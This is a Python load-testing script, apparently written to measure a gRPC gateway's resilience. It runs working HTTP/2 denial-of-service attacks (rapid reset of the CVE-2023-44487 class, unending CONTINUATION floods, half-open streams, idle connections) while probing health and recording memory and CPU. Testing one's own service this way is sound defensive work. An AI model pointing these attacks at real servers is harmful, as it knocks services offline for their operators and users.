#!/usr/bin/python3
"""Raw HTTP/2 attacks against the gateway, bounded in time, measured.

Modes (SECURITY.md has the figures):
  rapid_reset   HEADERS + RST_STREAM in a loop on one connection
                (CVE-2023-44487 class)
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames
                that never end the header block
  half_open     many streams opened (HEADERS, no END_STREAM) and left open
  idle          N TCP connections that send nothing at all (not even the
                HTTP/2 preface); with --preface they send the preface and
                SETTINGS, then nothing

While attacking, a probe loop calls grpc.health.v1.Health/Check on fresh
connections. Prints one JSON object: RSS before / peak / after (VmRSS,
VmHWM of --pid), CPU seconds the gateway used, health probes answered, and
mode-specific counts (e.g. idle connections the server closed, and when).

Uses Debian's python3-h2 (hyperframe, hpack); run with /usr/bin/python3.

Over TLS (a gateway with --tls_cert_file ...): pass --tls and --tls-ca, and
--tls-cert/--tls-key for an authenticated attacker; every connection, the
probe's included, is then wrapped by tls_wrap(). An unauthenticated peer
(no --tls-cert) gets nothing past the handshake (SECURITY.md has figures).
"""

import argparse
import json
import os
import select
import socket
import ssl
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import (ContinuationFrame, HeadersFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/campaigns.v1.CampaignService/ListLists"
HEALTH = "/grpc.health.v1.Health/Check"
CANCEL = 0x8


def tls_context(args):
    """The client TLS context for --tls, or None for plaintext."""
    if not args.tls:
        return None
    ctx = ssl.create_default_context(cafile=args.tls_ca)
    if args.tls_ca is None:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if args.tls_cert:
        ctx.load_cert_chain(args.tls_cert, args.tls_key)
    ctx.set_alpn_protocols(["h2"])
    return ctx


def connect(args, timeout=2.0):
    host, port = args.target.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    ctx = tls_context(args)
    if ctx is not None:
        sock = ctx.wrap_socket(sock, server_hostname=args.tls_server_name)
    return sock


def request_headers(path, authority):
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers")]


# --- the gateway's process -------------------------------------------------

def proc_status(pid):
    out = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM", "Threads"):
                out[key] = int(value.split()[0])  # kB, or a count
    return out


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def fd_count(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


# --- the health probe ------------------------------------------------------

def health_check(args, timeout):
    """One Health/Check on a fresh connection: True when SERVING."""
    deadline = time.monotonic() + timeout
    try:
        sock = connect(args, timeout=timeout)
    except OSError:
        return False
    try:
        conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.send_headers(1, request_headers(HEALTH, args.target))
        conn.send_data(1, b"\x00\x00\x00\x00\x00", end_stream=True)
        sock.sendall(conn.data_to_send())
        body = b""
        while time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            data = sock.recv(65536)
            if not data:
                return False
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.DataReceived):
                    body += event.data
                    conn.acknowledge_received_data(
                        event.flow_controlled_length, 1)
                elif isinstance(event, h2.events.TrailersReceived):
                    status = dict(event.headers).get(b"grpc-status")
                    # HealthCheckResponse{status: SERVING} is 08 01.
                    return status == b"0" and body.endswith(b"\x08\x01")
                elif isinstance(event, (h2.events.StreamReset,
                                        h2.events.ConnectionTerminated)):
                    return False
            sock.sendall(conn.data_to_send())
        return False
    except (OSError, h2.exceptions.ProtocolError):
        return False
    finally:
        sock.close()


class Prober(threading.Thread):
    """Probes health and samples the gateway's RSS until stopped."""

    def __init__(self, args):
        super().__init__(daemon=True)
        self.args = args
        self.stop = threading.Event()
        self.ok = 0
        self.failed = 0
        self.max_latency = 0.0
        self.peak_rss_kb = 0

    def run(self):
        while not self.stop.is_set():
            started = time.monotonic()
            if health_check(self.args, self.args.probe_timeout):
                self.ok += 1
            else:
                self.failed += 1
            self.max_latency = max(self.max_latency,
                                   time.monotonic() - started)
            try:
                self.peak_rss_kb = max(self.peak_rss_kb,
                                       proc_status(self.args.pid)["VmRSS"])
            except OSError:
                pass
            self.stop.wait(self.args.probe_interval)


# --- the attacks -----------------------------------------------------------

def drain(sock):
    """Reads whatever the server sent; False once it closed the connection."""
    try:
        while select.select([sock], [], [], 0)[0]:
            if not sock.recv(1 << 20):
                return False
    except OSError:
        return False
    return True


def open_attack_connection(args):
    sock = connect(args)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    if args.ack_settings:
        # A peer that acknowledges the server's SETTINGS is bound by them
        # (MAX_CONCURRENT_STREAMS); one that never does is not, in gRPC
        # 1.51, which has no SETTINGS timeout.
        select.select([sock], [], [], 0.5)
        drain(sock)
        sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
    return sock


def rapid_reset(args, until):
    encoder = hpack.Encoder()
    stats = {"streams": 0, "connections": 0, "frames_sent": 0}
    sock = None
    stream = 1
    while time.monotonic() < until:
        if sock is None:
            sock = open_attack_connection(args)
            encoder = hpack.Encoder()
            stream = 1
            stats["connections"] += 1
        batch = bytearray()
        for _ in range(100):
            headers = HeadersFrame(stream)
            headers.data = encoder.encode(
                request_headers(METHOD, args.target))
            headers.flags.add("END_HEADERS")
            batch += headers.serialize()
            batch += RstStreamFrame(stream, error_code=CANCEL).serialize()
            stream += 2
        try:
            sock.sendall(batch)
            stats["streams"] += 100
            stats["frames_sent"] += 200
            alive = drain(sock)
        except OSError:
            alive = False
        if not alive or stream > 2**31 - 300:
            sock.close()
            sock = None
    if sock is not None:
        sock.close()
    return stats


def continuation(args, until):
    stats = {"frames_sent": 0, "bytes_sent": 0, "connections": 0}
    while time.monotonic() < until:
        sock = open_attack_connection(args)
        stats["connections"] += 1
        encoder = hpack.Encoder()
        headers = HeadersFrame(1)
        headers.data = encoder.encode(request_headers(METHOD, args.target))
        try:
            sock.sendall(headers.serialize())
            i = 0
            while time.monotonic() < until:
                frame = ContinuationFrame(1)
                # Literal headers without indexing, ~16 KiB per frame.
                frame.data = encoder.encode(
                    [(f"x-flood-{i}-{j}", "v" * 200) for j in range(70)],
                    huffman=False)
                i += 1
                sock.sendall(frame.serialize())
                stats["frames_sent"] += 1
                stats["bytes_sent"] += len(frame.data)
                if not drain(sock):
                    break
        except OSError:
            pass
        sock.close()
    return stats


def half_open(args, until):
    stats = {"streams_opened": 0, "refused": 0, "connections": 0}
    socks = []
    encoder_of = {}
    for _ in range(args.connections):
        try:
            sock = open_attack_connection(args)
        except OSError:
            continue
        socks.append(sock)
        encoder_of[sock] = hpack.Encoder()
        stats["connections"] += 1
    per_conn = args.streams // max(1, len(socks))
    for sock in socks:
        batch = bytearray()
        for n in range(per_conn):
            headers = HeadersFrame(1 + 2 * n)
            headers.data = encoder_of[sock].encode(
                request_headers(METHOD, args.target))
            headers.flags.add("END_HEADERS")  # but never END_STREAM
            batch += headers.serialize()
        try:
            sock.sendall(batch)
            stats["streams_opened"] += per_conn
        except OSError:
            pass
        if time.monotonic() > until:
            break
    # Hold them open, reading what the server says (RST_STREAM refusals).
    while time.monotonic() < until:
        for sock in socks:
            try:
                if select.select([sock], [], [], 0)[0]:
                    data = sock.recv(1 << 20)
                    # RST_STREAM frames: type 0x3 at offset 3 of a header.
                    stats["refused"] += data.count(b"\x00\x00\x04\x03\x00")
            except OSError:
                pass
        time.sleep(0.05)
    for sock in socks:
        sock.close()
    return stats


def idle(args, until):
    socks = []
    stats = {"opened": 0, "open_failed": 0, "closed_by_server": 0,
             "first_close_s": None, "last_close_s": None}
    started = time.monotonic()
    for _ in range(args.connections):
        try:
            sock = connect(args)
            if args.preface:
                sock.sendall(PREFACE + SettingsFrame(0).serialize())
            socks.append(sock)
            stats["opened"] += 1
        except OSError:
            stats["open_failed"] += 1
    open_socks = {sock.fileno(): sock for sock in socks}
    poller = select.poll()  # select() stops at fd 1024
    for fd in open_socks:
        poller.register(fd, select.POLLIN)
    while time.monotonic() < until and open_socks:
        for fd, _ in poller.poll(100):
            sock = open_socks.get(fd)
            if sock is None:
                continue
            try:
                data = sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                poller.unregister(fd)
                del open_socks[fd]
                stats["closed_by_server"] += 1
                at = round(time.monotonic() - started, 2)
                if stats["first_close_s"] is None:
                    stats["first_close_s"] = at
                stats["last_close_s"] = at
    stats["still_open"] = len(open_socks)
    for sock in socks:
        sock.close()
    return stats


MODES = {"rapid_reset": rapid_reset, "continuation": continuation,
         "half_open": half_open, "idle": idle}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--target", default="127.0.0.1:50051")
    parser.add_argument("--pid", type=int, required=True,
                        help="the gateway's pid (RSS and CPU are read)")
    parser.add_argument("--mode", choices=sorted(MODES), required=True)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--streams", type=int, default=20000,
                        help="half_open: streams over all connections")
    parser.add_argument("--ack-settings", action="store_true",
                        help="acknowledge the server's SETTINGS, as a "
                        "well-behaved (but malicious) client library would")
    parser.add_argument("--preface", action="store_true",
                        help="idle: send the HTTP/2 preface, then nothing")
    parser.add_argument("--probe-interval", type=float, default=0.2)
    parser.add_argument("--probe-timeout", type=float, default=1.0)
    parser.add_argument("--tls", action="store_true",
                        help="TODO(mTLS): speak TLS (ALPN h2)")
    parser.add_argument("--tls-ca", help="CA to verify the server with")
    parser.add_argument("--tls-cert", help="client certificate (PEM)")
    parser.add_argument("--tls-key", help="client private key (PEM)")
    parser.add_argument("--tls-server-name", default="localhost")
    args = parser.parse_args()

    before = proc_status(args.pid)
    cpu_before = cpu_seconds(args.pid)
    prober = Prober(args)
    prober.start()
    started = time.monotonic()
    stats = MODES[args.mode](args, started + args.seconds)
    elapsed = time.monotonic() - started
    prober.stop.set()
    prober.join()
    after = proc_status(args.pid)
    report = {
        "mode": args.mode,
        "seconds": round(elapsed, 2),
        "rss_before_mib": round(before["VmRSS"] / 1024, 1),
        "rss_peak_mib": round(max(prober.peak_rss_kb, after["VmRSS"]) / 1024,
                              1),
        "rss_after_mib": round(after["VmRSS"] / 1024, 1),
        "hwm_mib": round(after["VmHWM"] / 1024, 1),
        "cpu_seconds": round(cpu_seconds(args.pid) - cpu_before, 2),
        "cpu_cores": round((cpu_seconds(args.pid) - cpu_before) / elapsed, 2),
        "health_ok": prober.ok,
        "health_failed": prober.failed,
        "health_max_latency_s": round(prober.max_latency, 3),
        "gateway_fds_after": fd_count(args.pid),
    }
    report.update(stats)
    print(json.dumps(report))


if __name__ == "__main__":
    main()
